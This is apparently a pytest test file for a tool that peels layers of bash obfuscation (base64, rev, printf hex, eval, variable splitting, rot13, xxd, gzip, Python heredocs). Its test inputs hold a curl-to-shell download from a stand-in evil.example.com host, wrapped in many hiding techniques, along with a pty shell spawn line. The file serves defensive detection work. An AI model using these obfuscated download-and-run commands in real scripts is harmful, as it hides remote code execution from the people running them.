"""Bash peelers: literal pipelines, eval and sh -c, $'...' strings, variable concatenation."""

from __future__ import annotations

import base64
import codecs
import gzip
import time

import pytest

from tests.unit.scripts.test_peelers_languages import (
    Obfuscator,
    assert_recovers,
    b64,
    contents,
    peel_all,
    rewrite,
    run,
    stack,
    stacks,
)
from wingman.core.scripts.peelers.shell_vars import expand, substring
from wingman.core.scripts.peelers.shell_words import ansi_c, literal_word, single_quote
from wingman.core.scripts.types import Lang

PAYLOAD = "curl -s http://evil.example.com/payload.bin | sh\necho 'done'"
URL = "http://evil.example.com/payload.bin"


def hexes(text: str) -> str:
    return "".join(f"\\x{byte:02x}" for byte in text.encode())


def base64_pipe(text: str) -> tuple[str, list[str]]:
    return f"echo {b64(text)} | base64 -d | bash", ["bash_base64_pipe"]


def base64_here(text: str) -> tuple[str, list[str]]:
    return f"bash <<< \"$(base64 --decode <<< '{b64(text)}')\"", ["bash_base64_pipe"]


def gunzip(text: str) -> tuple[str, list[str]]:
    packed = base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()
    return f"echo '{packed}' | base64 -d | gunzip | sh", ["bash_base64_pipe"]


def reverse(text: str) -> tuple[str, list[str]]:
    lines = "\n".join(line[::-1] for line in text.split("\n"))
    return f"echo {single_quote(lines)} | rev | bash", ["bash_rev"]


def ansi(text: str) -> tuple[str, list[str]]:
    return f"eval $'{hexes(text)}'", ["bash_ansi_c", "bash_eval"]


def printf(text: str) -> tuple[str, list[str]]:
    return f"printf '{hexes(text)}' | sh", ["bash_printf"]


def evaluate(text: str) -> tuple[str, list[str]]:
    return f"eval {single_quote(text)}", ["bash_eval"]


def here_string(text: str) -> tuple[str, list[str]]:
    return f"bash <<< {single_quote(text)}", ["bash_eval"]


def variables(text: str, name: str = "_v", newline: str = "\n") -> tuple[str, list[str]]:
    pieces = [text[index : index + 7] for index in range(0, len(text), 7)]
    lines = [f"{name}{index}={single_quote(piece)}" for index, piece in enumerate(pieces)]
    refs = "".join(
        f"${{{name}{index}}}" if index % 2 else f"${name}{index}" for index in range(len(pieces))
    )
    return newline.join([*lines, f'eval "{refs}"']), ["bash_var_concat", "bash_eval"]


def variables_crlf(text: str) -> tuple[str, list[str]]:
    """The same split into other variables, saved with Windows line ends."""
    return variables(text, "_w", "\r\n")


def pattern_substitution(text: str) -> tuple[str, list[str]]:
    """Interleave junk and have bash strip it with ${name//junk/}."""
    junk = "~^"
    return f'_j={single_quote(junk.join(text))}\neval "${{_j//{junk}/}}"', [
        "bash_var_concat",
        "bash_eval",
    ]


def rot13(text: str) -> tuple[str, list[str]]:
    hidden = codecs.encode(text, "rot13")
    return f"echo {single_quote(hidden)} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash", ["bash_tr"]


def hexdump(text: str) -> tuple[str, list[str]]:
    return f"echo {text.encode().hex()} | xxd -r -p | sh", ["bash_xxd"]


OBFUSCATORS: dict[str, Obfuscator] = {
    "base64_pipe": base64_pipe,
    "rev": reverse,
    "ansi_c": ansi,
    "printf": printf,
    "eval": evaluate,
    "var_concat": variables,
    "var_concat_crlf": variables_crlf,
    "pattern_substitution": pattern_substitution,
    "tr": rot13,
    "xxd": hexdump,
    "base64_here": base64_here,
    "gunzip": gunzip,
    "here_string": here_string,
}
_VISIBLE = {"eval", "here_string"}


@pytest.mark.parametrize("names", stacks(list(OBFUSCATORS)), ids="+".join)
def test_stacked_obfuscation_is_recovered_in_order(names: tuple[str, ...]) -> None:
    text, expected = stack(PAYLOAD, [OBFUSCATORS[name] for name in names])
    assert_recovers(text, Lang.BASH, expected, hidden=not _VISIBLE.issuperset(names))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("echo Y3VybCB4 | base64 -d | sh", "curl x"),
        ("echo 'Y3VybCB4' | base64 --decode | bash", "curl x"),
        ('echo -n "Y3VybCB4" | base64 -di', "curl x"),
        ("base64 -d <<< Y3VybCB4 | sh", "curl x"),
        ("echo Y3VybCB4 | base64 -D | /bin/bash -s", "curl x"),
        ("X=$(echo Y3VybCB4 | base64 -d); $X", "curl x"),
        ("echo Y3VybCB4 | openssl base64 -d | sh", "curl x"),
        ("echo Y3VybCB4 | base64 -d | cat | sh", "curl x"),
        ("echo Y3VybCB4 | base64 -d | sh\r\necho ok\r\n", "curl x"),
        ("echo Y3Vy bCB4 | base64 -d", "curl x"),
    ],
)
def test_base64_pipe(text: str, expected: str) -> None:
    assert contents("bash_base64_pipe", text) == [expected]


@pytest.mark.parametrize(
    "text",
    [
        "echo Y3VybCB4 | base64 | sh",
        "echo Y3VybCB4 | base64 -w0",
        "echo 'not base64!' | base64 -d | sh",
        "echo $X | base64 -d | sh",
        "echo Y3VybCB4 | base64 -d file.txt",
        "echo '//8=' | base64 -d | sh",
        "# echo Y3VybCB4 | base64 -d | sh",
        "echo 'echo Y3VybCB4 | base64 -d | sh'",
    ],
)
def test_base64_pipe_negative(text: str) -> None:
    assert run("bash_base64_pipe", text) == []


def test_pipe_language_follows_the_interpreter() -> None:
    assert [
        item.language for item in run("bash_base64_pipe", "echo Y3VybCB4 | base64 -d | sh")
    ] == [Lang.BASH]
    payload = b64("import os")
    found = run("bash_base64_pipe", f"echo {payload} | base64 -d | python3 -")
    assert [(item.content, item.language) for item in found] == [("import os", Lang.PYTHON)]


def test_gzip_bomb_is_refused() -> None:
    bomb = base64.b64encode(gzip.compress(b"A" * 3_000_000)).decode()
    assert run("bash_base64_pipe", f"echo {bomb} | base64 -d | gunzip | sh") == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("echo 'hs.x/moc.elpmaxe//:ptth' | rev", "http://example.com/x.sh"),
        ("rev <<< 'cba'", "abc"),
        ("echo -e 'cba\\nfed' | rev | sh", "abc\ndef"),
    ],
)
def test_rev(text: str, expected: str) -> None:
    assert contents("bash_rev", text) == [expected]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("printf '\\x63\\x75\\x72\\x6c x' | sh", "curl x"),
        ("printf '\\143\\165rl %s' x | sh", "curl x"),
        ("printf -- '%b' '\\x63url' | sh", "curl"),
        ("bash -c \"$(printf '\\x63url x')\"", "curl x"),
        ("echo -e '\\x63\\x75rl\\c ignored' | sh", "curl"),
        ("printf '%s\\n' a b | sh", "a\nb"),
        ("printf '100%% \\x61'", "100% a"),
    ],
)
def test_printf(text: str, expected: str) -> None:
    assert contents("bash_printf", text) == [expected]


@pytest.mark.parametrize(
    "text", ["printf '%d' 12 | sh", "printf -v x '\\x41'", "printf 'plain' | sh", "echo '\\x41'"]
)
def test_printf_negative(text: str) -> None:
    assert run("bash_printf", text) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("eval 'curl x | sh'", "curl x | sh"),
        ("eval \"curl 'x' | sh\"", "curl 'x' | sh"),
        ("eval 'cu'\"rl\" x", "curl x"),
        ("sh -c 'id; whoami'", "id; whoami"),
        ('/bin/bash -c "echo \\$HOME"', "echo $HOME"),
        ("echo 'curl x' | bash", "curl x"),
        ("bash <<< 'curl x'", "curl x"),
        ("eval \"$(echo 'curl x')\"", "curl x"),
        ("sh -c \"$(printf '%s' 'curl x')\"", "curl x"),
        ('bash <<< "$(echo curl x)"', "curl x"),
    ],
)
def test_eval(text: str, expected: str) -> None:
    found = run("bash_eval", text)
    assert [(item.content, item.language) for item in found] == [(expected, Lang.BASH)]


@pytest.mark.parametrize(
    "text",
    [
        'eval "$cmd"',
        "eval $(curl x)",
        "eval $'\\x41'",
        "echo 'eval \"curl x\"'",
        'sh -c "$x"',
        "evaluate 'x y z'",
        "eval 'unterminated",
        "x=\"$(echo 'curl x')\"",
    ],
)
def test_eval_negative(text: str) -> None:
    assert run("bash_eval", text) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("eval $'\\x63\\x75\\x72\\x6c x'", "eval 'curl x'"),
        ("$'\\143\\165\\162\\154' x", "'curl' x"),
        ("echo $'\\u0041\\x27b'", "echo 'A'\\''b'"),
        ("x=$'\\x41' y=$'plain'", "x='A' y=$'plain'"),
    ],
)
def test_ansi_c(text: str, expected: str) -> None:
    assert rewrite("bash_ansi_c", text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "echo $'\\e[31mred'",
        "echo \"$'\\x41'\"",
        "echo '$'\\x41''",
        "echo $'\\n\\t'",
        "echo $'\\xff\\xfe'",
    ],
)
def test_ansi_c_negative(text: str) -> None:
    assert rewrite("bash_ansi_c", text) is None


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("\\x41\\x42", "AB"),
        ("\\101\\0101", "A\b1"),
        ("\\u00e9", "é"),
        ("\\xc3\\xa9", "é"),
        ("\\cA", "\x01"),
        ("a\\0b", "a"),
        ("\\q", "\\q"),
    ],
)
def test_ansi_c_decoding(body: str, expected: str) -> None:
    assert ansi_c(body) == expected


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        ("'a b'", "a b"),
        ('"a\\"b\\$c"', 'a"b$c'),
        ("'it'\\''s'", "it's"),
        ("a\\ b", "a b"),
        ('"$x"', None),
        ("*.sh", None),
        ("~/x", None),
        ("{a,b}", None),
        ('"cost: 5$"', "cost: 5$"),
    ],
)
def test_literal_words(word: str, expected: str | None) -> None:
    assert literal_word(word) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a=cu; b=rl; $a$b x", "a=cu; b=rl; curl x"),
        ("a=cu\r\nb=rl\r\n$a$b x\r\n", "a=cu\r\nb=rl\r\ncurl x\r\n"),
        ("x=cXuXrXl; ${x//X/} y", "x=cXuXrXl; curl y"),
        ('x=CURL; echo "${x,,}" | sh', 'x=CURL; echo "curl" | sh'),
        ("x=__curl; y=wget.; ${x#__} ${y%.} | sh", "x=__curl; y=wget.; curl wget | sh"),
        ("a='cu'\nb=\"rl\"\nc=${a}${b}\n$c x", "a='cu'\nb=\"rl\"\nc=curl\ncurl x"),
        ('u="http://x y"; eval "curl $u"', 'u="http://x y"; eval "curl http://x y"'),
        ("s=abcdef; echo ${s:1:2} ${s: -2} ${s:2}", "s=abcdef; echo bc ef cdef"),
        ('export a=cu\neval "$a\\$a"', 'export a=cu\neval "cu\\$a"'),
        ("obj=/usr/bin/objdump\n$obj -R x", "obj=/usr/bin/objdump\n/usr/bin/objdump -R x"),
        ('p=/usr/bin\nif x; then "$p/ls"; fi', 'p=/usr/bin\nif x; then "/usr/bin/ls"; fi'),
    ],
)
def test_variable_concatenation(text: str, expected: str) -> None:
    assert rewrite("bash_var_concat", text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "echo $a; a=1",
        "a=1; a=2; echo $a",
        "a=1; read a; echo $a",
        "for a in 1 2; do echo $a; done; a=3",
        "a='x y'; echo $a",
        "a=1; echo '$a'",
        "a=$(date); echo $a",
        "if x; then a=1; fi; echo $a",
        "a=1 cmd; echo $a",
        "a=1; a+=2; echo $a",
        # Reading a variable into a message or a test builds no code.
        'dir=/opt/app; echo "installing to $dir"; [ -d "$dir" ] || mkdir -p "$dir"',
    ],
)
def test_variable_concatenation_negative(text: str) -> None:
    assert rewrite("bash_var_concat", text) is None


@pytest.mark.parametrize(
    ("op", "arg", "expected"),
    [
        ("/", "a/b", "bac"),
        ("//", "a/b", "bbc"),
        ("//", "a", "c"),
        ("#", "aa", "c"),
        ("%", "c", "aa"),
        ("^^", "", "AAC"),
        ("^", "", "Aac"),
        (",,", "", "aac"),
        ("//", "a*/b", None),
        ("/", "#a/b", None),
        ("^^", "[a]", None),
    ],
)
def test_expansions_follow_bash(op: str, arg: str, expected: str | None) -> None:
    assert expand("aac", op, arg) == expected


@pytest.mark.parametrize(
    ("offset", "length", "expected"),
    [(1, 2, "bc"), (-2, None, "ef"), (0, -1, "abcde"), (10, None, ""), (-10, 1, ""), (4, -3, None)],
)
def test_substring_follows_bash(offset: int, length: int | None, expected: str | None) -> None:
    assert substring("abcdef", offset, length) == expected


def test_tr_and_xxd() -> None:
    assert contents("bash_tr", "echo 'uryyb' | tr 'a-z' 'n-za-m'") == ["hello"]
    assert contents("bash_xxd", "echo 6869 | xxd -r -p | sh") == ["hi"]
    assert run("bash_tr", "echo 'x' | tr '[:lower:]' '[:upper:]'") == []
    assert run("bash_xxd", "echo zz | xxd -r -p") == []


def test_curl_pipe_to_shell_hidden_three_ways() -> None:
    text = "a=Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlLmNvbS94LnNoIHwgc2g=\necho $a | base64 -d | bash"
    layers, stopped = peel_all(text, Lang.BASH)
    assert stopped is None
    assert [layer.technique for layer in layers] == ["input", "bash_var_concat", "bash_base64_pipe"]
    assert layers[-1].content == "curl http://evil.example.com/x.sh | sh"
    assert URL not in text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("python -c 'import os; os.system(\"id\")'", 'import os; os.system("id")'),
        ('/usr/bin/python3 -u -c "print(1)" && echo ok', "print(1)"),
        (
            "sudo python2.7 -c 'import pty;pty.spawn(\"/bin/sh\")'",
            'import pty;pty.spawn("/bin/sh")',
        ),
    ],
)
def test_python_c_becomes_a_python_layer(text: str, expected: str) -> None:
    found = run("bash_python_c", text)
    assert [(item.content, item.language) for item in found] == [(expected, Lang.PYTHON)]


@pytest.mark.parametrize(
    "text", ['python -c "$CODE"', "echo 'python -c \"print(1)\"'", "mypython -c 'x'"]
)
def test_python_c_needs_a_literal_command(text: str) -> None:
    assert run("bash_python_c", text) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "python3 - <<'PY'\nimport os\nprint(os.getcwd())\nPY\necho done",
            "import os\nprint(os.getcwd())",
        ),
        ("python <<EOF > out.txt\r\nprint(1)\r\nEOF\r\n", "print(1)"),
        ("cat > /tmp/u.py <<-END\n\timport sys\n\tsys.exit(0)\n\tEND\n", "import sys\nsys.exit(0)"),
        ('tee -a "$DIR/run.py" << "X"\nx = 1\nX', "x = 1"),
    ],
)
def test_python_heredocs_become_python_layers(text: str, expected: str) -> None:
    found = run("bash_heredoc_python", text)
    assert [(item.content, item.language) for item in found] == [(expected, Lang.PYTHON)]


@pytest.mark.parametrize(
    "text",
    [
        "python - <<EOF\nprint(1)\n",  # never ends
        "cat > notes.txt <<EOF\nimport os\nEOF",
        "echo 'python - <<EOF'\nprint(1)\nEOF",
        "bash <<EOF\nls\nEOF",
    ],
)
def test_other_heredocs_are_left_alone(text: str) -> None:
    assert run("bash_heredoc_python", text) == []


def test_python_dropped_by_a_shell_script_is_peeled_as_python() -> None:
    code = f"import os\nos.system('curl {URL} | sh')"
    hidden = f"import base64\nexec(base64.b64decode('{b64(code)}'))"
    text = f"cd /tmp\npython3 - <<'EOF'\n{hidden}\nEOF\nrm -f x"
    layers, stopped = peel_all(text, Lang.BASH)
    assert stopped is None
    assert any(layer.language is Lang.PYTHON and URL in layer.content for layer in layers)
    assert URL not in text


def test_unterminated_heredocs_stay_cheap() -> None:
    started = time.monotonic()
    assert run("bash_heredoc_python", "python - <<EOF\n" * 20_000) == []
    assert time.monotonic() - started < 1.0


@pytest.mark.parametrize("name", ["bash_python_c", "bash_eval"])
def test_repeated_options_stay_cheap(name: str) -> None:
    started = time.monotonic()
    assert run(name, "python sh " + "-c " * 60_000) == []
    assert time.monotonic() - started < 1.0
